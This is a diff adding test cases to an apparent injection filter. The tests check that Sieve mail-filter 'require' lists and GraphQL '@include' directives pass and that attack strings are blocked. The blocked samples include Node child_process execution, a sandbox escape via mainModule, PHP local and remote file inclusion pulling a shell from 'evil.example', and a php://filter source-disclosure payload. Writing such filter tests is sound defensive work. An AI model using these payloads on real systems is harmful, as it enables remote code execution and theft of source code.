@@ -995,3 +995,26 @@ def test_numbers_joined_by_hyphens_are_no_arithmetic_in_a_template(edge):
     check_passes(edge, ["{{cite book |isbn=978-3-12-345678-0 |page=42}}",
                         "{{ order.date | default: 2024-03-01 }}"])
     check_blocked(edge, ["{{7*7}}", "{{'7'*7}}", "{{ 7*7 }} {{isbn-978-3-12}}"])
+
+
+def test_a_sieve_scripts_require_list_is_no_nodes_require(edge):
+    """Sieve's 'require ["fileinto", "envelope"];' lists the extensions a
+    mail filter uses; Node's require reached as an object by one key
+    still counts."""
+    check_passes(edge, ['require ["fileinto", "imap4flags"];\nif header :contains '
+                        '"subject" "invoice" { fileinto "Billing"; }',
+                        'require ["fileinto"];\nif address :is "from" "a@b.example" '
+                        '{ fileinto "Lists"; }'])
+    check_blocked(edge, ["require['child_process'].exec('id')",
+                         "global.process.mainModule.require['child_process']"])
+
+
+def test_a_graphql_include_directive_is_no_php_include(edge):
+    """GraphQL's "@include(if: $withAuthor)" names an argument; PHP's
+    include given a variable, a quoted wrapper or a URL still counts."""
+    check_passes(edge, ["query Feed($withAuthor: Boolean!) { posts(first: 10) "
+                        "{ id author @include(if: $withAuthor) { name } } }",
+                        "{ me { email @include(if: $full) phone @skip(if: $short) } }"])
+    check_blocked(edge, ["<?php include($_GET['p']); ?>",
+                         "@include(http://evil.example/shell.txt)",
+                         "include('php://filter/convert.base64-encode/resource=index.php')"])
